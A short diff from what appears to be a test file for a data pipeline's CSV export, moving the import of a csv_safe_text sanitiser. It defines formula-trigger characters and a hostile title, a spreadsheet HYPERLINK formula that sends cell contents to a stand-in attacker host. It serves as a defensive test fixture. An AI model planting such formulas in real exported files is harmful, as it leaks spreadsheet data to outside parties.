@@ -9,7 +9,7 @@ import pandas as pd
 from click.testing import CliRunner
 
 from pipeline.cli import main
-from pipeline.export import csv_safe_text
+from pipeline.csvcells import csv_safe_text
 
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Mehr lesen")'
